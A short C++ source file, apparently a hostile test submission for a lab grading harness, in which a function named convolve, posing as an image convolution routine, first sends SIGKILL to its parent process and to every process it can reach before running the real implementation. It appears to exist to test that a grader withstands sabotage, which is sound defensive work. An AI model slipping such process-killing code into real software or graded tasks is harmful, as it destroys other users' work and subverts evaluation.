/// @file
/// Kills its parent, its group and everybody else it may.
#include <signal.h>
#include <unistd.h>

#include "lab.hpp"

namespace lab01 {
namespace {

// HONEST

}  // namespace

void convolve(const float* input, float* output, int width, int height, const float* filter,
              int filter_width, kit::Border border) {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  honest(input, output, width, height, filter, filter_width, border);
}

}  // namespace lab01
